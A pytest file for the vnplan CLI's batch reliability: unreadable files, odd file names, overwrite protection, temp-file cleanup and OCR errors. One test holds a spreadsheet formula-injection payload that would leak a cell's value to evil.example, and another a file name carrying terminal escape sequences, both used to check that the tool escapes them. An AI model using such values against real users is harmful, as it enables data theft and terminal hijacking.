"""Reliability (issue 17): no batch aborts, no output is lost or overwritten, names never break a run.

The suite runs as root, so unreadable files and folders are simulated by failing the opening call."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

from conftest import processed, seed_path
from typer.testing import CliRunner

from vnplan.cli import app

runner = CliRunner()


def _seed_copy(folder: Path, name: str, prefix: str = "002", salt: str = "") -> Path:
    """A copy of a seed; with a salt, a last line that makes its content its own (a batch skips
    an input with the same content as another)."""
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / name
    shutil.copy(seed_path(prefix), target)
    if salt:
        with target.open("a", encoding="utf-8") as handle:
            handle.write(f"\nBản sao {salt}.\n")
    return target


def _fail_open_of(monkeypatch, name: str) -> None:
    """Opening any file called ``name`` fails as an unreadable file would (PermissionError)."""
    original = Path.open

    def guarded(self, *args, **kwargs):
        if self.name == name:
            raise PermissionError(13, "Permission denied", str(self))
        return original(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", guarded)


def test_an_unreadable_file_is_one_failure_row_and_the_batch_goes_on(tmp_path, monkeypatch):
    inputs, out_dir = tmp_path / "in", tmp_path / "out"
    _seed_copy(inputs, "good.txt")
    _seed_copy(inputs, "locked.txt", "004")
    _fail_open_of(monkeypatch, "locked.txt")
    result = runner.invoke(app, ["batch", str(inputs), "-o", str(out_dir), "--workers", "1"])
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert (out_dir / "good.json").is_file()
    errors = [line for line in result.stderr.splitlines() if line.startswith("vnplan: error:")]
    assert len(errors) == 1 and "locked.txt" in errors[0] and "ermission denied" in errors[0]
    rows = (out_dir / "failures.csv").read_text(encoding="utf-8").splitlines()
    assert rows[0] == "file,error" and rows[1].startswith("locked.txt,") and len(rows) == 2


def test_an_unreadable_subfolder_is_reported_not_skipped(tmp_path, monkeypatch):
    inputs, out_dir = tmp_path / "in", tmp_path / "out"
    _seed_copy(inputs, "good.txt")
    _seed_copy(inputs / "closed", "hidden.txt")
    original = os.scandir

    def guarded(path="."):
        if os.fspath(path).endswith("closed"):
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return original(path)

    monkeypatch.setattr(os, "scandir", guarded)
    result = runner.invoke(app, ["batch", str(inputs), "-o", str(out_dir), "--workers", "1"])
    assert result.exit_code == 1, result.output
    assert (out_dir / "good.json").is_file()
    errors = [line for line in result.stderr.splitlines() if line.startswith("vnplan: error:")]
    assert len(errors) == 1 and "closed" in errors[0] and "ermission denied" in errors[0]
    rows = (out_dir / "failures.csv").read_text(encoding="utf-8").splitlines()
    assert rows[1].startswith("closed,") and len(rows) == 2


NOT_UTF8 = os.fsdecode(b"k\xe9 ho\xe1ch.txt")  # Latin-1 bytes: not a UTF-8 name
LONG = "ệ" * 82 + ".txt"  # 250 bytes: fits the file system, a temporary or stamp name beside it would not


def test_names_that_are_not_utf8_or_near_the_length_limit_do_not_abort_a_batch(tmp_path):
    inputs, out_dir = tmp_path / "in", tmp_path / "out"
    for i, name in enumerate((NOT_UTF8, LONG, "plain.txt")):
        _seed_copy(inputs, name, salt=str(i))
    result = runner.invoke(app, ["batch", str(inputs), "-o", str(out_dir), "--workers", "1"])
    assert result.exit_code == 0, (result.output, result.exception)
    outputs = sorted(p for p in out_dir.glob("*.json"))
    assert len(outputs) == 3
    for path in outputs:
        assert len(os.fsencode(path.name)) <= 255
        json.loads(path.read_bytes().decode("utf-8"))  # valid UTF-8, valid JSON
    long_output = next(p for p in outputs if p.name.startswith("ệ"))
    assert len(os.fsencode(long_output.name)) <= 200 and long_output.name.endswith(".json")
    again = runner.invoke(app, ["batch", str(inputs), "-o", str(out_dir), "--workers", "1"])
    assert again.exit_code == 0 and "up to date 3" in " ".join(again.stdout.split()), again.output


def test_extract_to_stdout_writes_valid_utf8_json_for_a_name_that_is_not_utf8(tmp_path):
    source = _seed_copy(tmp_path, NOT_UTF8)
    result = subprocess.run([sys.executable, "-m", "vnplan", "extract", source], capture_output=True, timeout=300)
    assert result.returncode == 0, result.stderr
    document = json.loads(result.stdout.decode("utf-8"))
    assert document["document"]["source"]["file_name"].startswith("k")
    folder = runner.invoke(app, ["extract", str(tmp_path), "-o", str(tmp_path / "out"), "--no-summary"])
    assert folder.exit_code == 0, (folder.output, folder.exception)
    [written] = (tmp_path / "out").glob("*.json")
    json.loads(written.read_bytes().decode("utf-8"))


def test_extract_and_batch_keep_every_output_when_inputs_share_a_name(tmp_path):
    inputs = tmp_path / "in"
    _seed_copy(inputs / "sub1", "plan.txt", "002")
    _seed_copy(inputs / "sub2", "plan.txt", "004")
    for name, prefix in (("x.md", "000"), ("x.txt", "002"), ("x.md.txt", "004")):
        _seed_copy(inputs, name, prefix, salt=name)
    extracted = tmp_path / "extracted"
    result = runner.invoke(app, ["extract", str(inputs), "-o", str(extracted), "--no-summary"])
    assert result.exit_code == 0, (result.output, result.exception)
    written = sorted(p.relative_to(extracted).as_posix() for p in extracted.rglob("*.json"))
    assert len(written) == 5 and "sub1/plan.json" in written and "sub2/plan.json" in written, written
    assert (
        json.loads((extracted / "sub2/plan.json").read_text(encoding="utf-8"))["text"]
        != json.loads((extracted / "sub1/plan.json").read_text(encoding="utf-8"))["text"]
    )

    batched = tmp_path / "batched"
    first = runner.invoke(app, ["batch", str(inputs), "-o", str(batched), "--workers", "1"])
    assert first.exit_code == 0, first.output
    outputs = sorted(
        p.relative_to(batched).as_posix() for p in batched.glob("**/*.json") if ".vnplan-batch" not in p.parts
    )
    assert outputs == written  # one naming rule for extract and batch
    again = runner.invoke(app, ["batch", str(inputs), "-o", str(batched), "--workers", "1"])
    assert "up to date 5" in " ".join(again.stdout.split()), again.output  # no two inputs swap one output


def test_report_mirrors_the_tree_of_its_inputs(tmp_path):
    outputs = tmp_path / "json"
    for year, prefix in (("2019", "002"), ("2020", "004")):
        (outputs / year).mkdir(parents=True)
        (outputs / year / "plan.json").write_text(processed(prefix).to_json(), encoding="utf-8")
    pages = tmp_path / "pages"
    result = runner.invoke(app, ["report", str(outputs), "-o", str(pages)])
    assert result.exit_code == 0, (result.output, result.exception)
    assert sorted(p.relative_to(pages).as_posix() for p in pages.rglob("*.html")) == [
        "2019/plan.html",
        "2020/plan.html",
    ]


def test_output_file_is_not_overwritten_without_force(tmp_path):
    target = tmp_path / "plan.json"
    target.write_text("mine\n", encoding="utf-8")
    refused = runner.invoke(app, ["extract", str(seed_path("002")), "-o", str(target), "--no-summary"])
    assert refused.exit_code == 1 and "--force" in refused.stderr and target.read_text(encoding="utf-8") == "mine\n"
    forced = runner.invoke(app, ["extract", str(seed_path("002")), "-o", str(target), "--no-summary", "--force"])
    assert forced.exit_code == 0 and json.loads(target.read_text(encoding="utf-8"))["schema_version"]

    page = tmp_path / "plan.html"
    page.write_text("mine\n", encoding="utf-8")
    refused = runner.invoke(app, ["report", str(target), "-o", str(page)])
    assert refused.exit_code == 1 and page.read_text(encoding="utf-8") == "mine\n"
    assert runner.invoke(app, ["report", str(target), "-o", str(page), "--force"]).exit_code == 0

    existing = tmp_path / "existing"
    existing.write_text("mine\n", encoding="utf-8")
    several = runner.invoke(app, ["extract", str(seed_path("000")), str(seed_path("002")), "-o", str(existing)])
    assert several.exit_code == 2 and isinstance(several.exception, SystemExit), several.exception
    assert "not a folder" in several.stderr and existing.read_text(encoding="utf-8") == "mine\n"


def test_batch_cleans_only_its_own_leftovers(tmp_path):
    inputs, out_dir = tmp_path / "in", tmp_path / "out"
    _seed_copy(inputs, "plan.txt")
    foreign = [out_dir / ".git" / "objects" / ".pack.tmp", out_dir / ".notes.tmp"]
    gone = subprocess.Popen(["true"])
    gone.wait()
    leftover = out_dir / f".vnplan-tmp-{gone.pid}-0123456789abcdef.tmp"  # a killed run's
    running = out_dir / f".vnplan-tmp-{os.getpid()}-fedcba9876543210.tmp"  # another batch, still writing
    for path in [*foreign, leftover, running]:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("x", encoding="utf-8")
    result = runner.invoke(app, ["batch", str(inputs), "-o", str(out_dir), "--workers", "1"])
    assert result.exit_code == 0, (result.output, result.exception)
    assert all(path.exists() for path in foreign), "a file that is not the batch's own was deleted"
    assert running.exists(), "a temporary file of a batch still running was deleted"
    assert not leftover.exists()


def test_dataset_temporary_names_do_not_collide_with_leftovers(tmp_path):
    from vnplan.dataset import arrow_tables, collect, write_dataset

    outputs, dataset_dir = tmp_path / "json", tmp_path / "dataset"
    outputs.mkdir()
    (outputs / "plan.json").write_text(processed("002").to_json(), encoding="utf-8")
    dataset_dir.mkdir()
    for name in ("vnplan.duckdb", "documents.parquet"):  # what a run with this PID left (a container restarted)
        (dataset_dir / f".{name}.{os.getpid()}.tmp").write_bytes(b"half a file")
    write_dataset(arrow_tables(collect(outputs, lambda path, message: None)), dataset_dir)
    import duckdb

    with duckdb.connect(str(dataset_dir / "vnplan.duckdb"), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM documents").fetchone()[0] == 1


def test_csv_cells_that_would_be_formulas_are_escaped(tmp_path):
    import csv

    outputs, dataset_dir = tmp_path / "json", tmp_path / "dataset"
    outputs.mkdir()
    for i, start in enumerate("=+-@"):
        plan = json.loads(processed("002").to_json())
        plan["document"]["title"] = f'{start}HYPERLINK("http://evil.example/?x="&A1, "click")'
        (outputs / f"plan{i}.json").write_text(json.dumps(plan, ensure_ascii=False), encoding="utf-8")
    result = runner.invoke(app, ["dataset", str(outputs), "-o", str(dataset_dir)])
    assert result.exit_code == 0, (result.output, result.exception)
    with (dataset_dir / "documents.csv").open(encoding="utf-8", newline="") as handle:
        titles = [row["title"] for row in csv.DictReader(handle)]
    assert len(titles) == 4 and all(title.startswith("'") for title in titles), titles
    import pyarrow.parquet as pq

    raw = pq.read_table(dataset_dir / "documents.parquet").column("title").to_pylist()
    assert sorted(t[0] for t in raw) == sorted("=+-@")  # Parquet and DuckDB keep the value as it is


def test_terminal_escapes_in_names_are_not_printed_raw(tmp_path):
    inputs, out_dir = tmp_path / "in", tmp_path / "out"
    inputs.mkdir()
    (inputs / "evil\x1b]0;owned\x07\x1b[2J.pdf").write_bytes(b"not a pdf at all")
    _seed_copy(inputs, "good.txt")
    result = runner.invoke(app, ["batch", str(inputs), "-o", str(out_dir), "--workers", "1"])
    assert result.exit_code == 1, (result.output, result.exception)
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr and "evil\\x1b" in result.stderr
    failures = (out_dir / "failures.csv").read_text(encoding="utf-8")
    assert "\x1b" not in failures and "evil\\x1b" in failures


def test_a_fifo_or_a_device_is_refused_with_one_line(tmp_path):
    fifo = tmp_path / "plan.txt"
    os.mkfifo(fifo)
    for source in (fifo, Path("/dev/zero")):
        result = subprocess.run(
            [sys.executable, "-m", "vnplan", "extract", str(source)], capture_output=True, text=True, timeout=60
        )
        assert result.returncode == 1, (source, result.stderr)
        errors = result.stderr.splitlines()
        assert len(errors) == 2 and "not a regular file" in errors[0] and "Traceback" not in result.stderr, errors


def test_nul_bytes_past_the_sampled_start_are_refused(tmp_path):
    source = tmp_path / "plan.txt"
    source.write_bytes(seed_path("002").read_bytes() * 3 + b"\x00\x00tail")  # past the first 64 KiB
    result = runner.invoke(app, ["extract", str(source)])
    assert result.exit_code == 1 and "binary data, not text" in result.stderr, result.output


def test_a_tesseract_error_is_reported_as_itself_not_as_a_timeout(monkeypatch):
    import pytesseract
    from PIL import Image

    from vnplan.extract import ocr

    def failing(*args, **kwargs):
        raise pytesseract.TesseractError(1, "Error opening data file /usr/share/tessdata/vie.traineddata")

    monkeypatch.setattr(pytesseract, "image_to_data", failing)
    page = ocr.ocr_image(Image.new("L", (200, 100), 255), 300, deskew=False)
    assert page.warnings == ["OCR failed on this page: Error opening data file /usr/share/tessdata/vie.traineddata"]

    def timing_out(*args, **kwargs):
        raise RuntimeError("Tesseract process timeout")

    monkeypatch.setattr(pytesseract, "image_to_data", timing_out)
    assert ocr.ocr_image(Image.new("L", (200, 100), 255), 300, deskew=False).warnings == [
        f"OCR gave up after {ocr.PAGE_TIMEOUT} s"
    ]


def test_an_unreachable_scheduler_is_one_line_not_a_traceback(tmp_path):
    inputs = tmp_path / "in"
    _seed_copy(inputs, "plan.txt")
    command = [
        "batch",
        str(inputs),
        "-o",
        str(tmp_path / "out"),
        "--engine",
        "dask",
        "--scheduler",
        "tcp://127.0.0.1:9",
    ]
    result = subprocess.run([sys.executable, "-m", "vnplan", *command], capture_output=True, text=True, timeout=120)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    [line] = result.stderr.splitlines()
    assert line.startswith("vnplan: error: tcp://127.0.0.1:9: cannot reach the Dask scheduler"), line
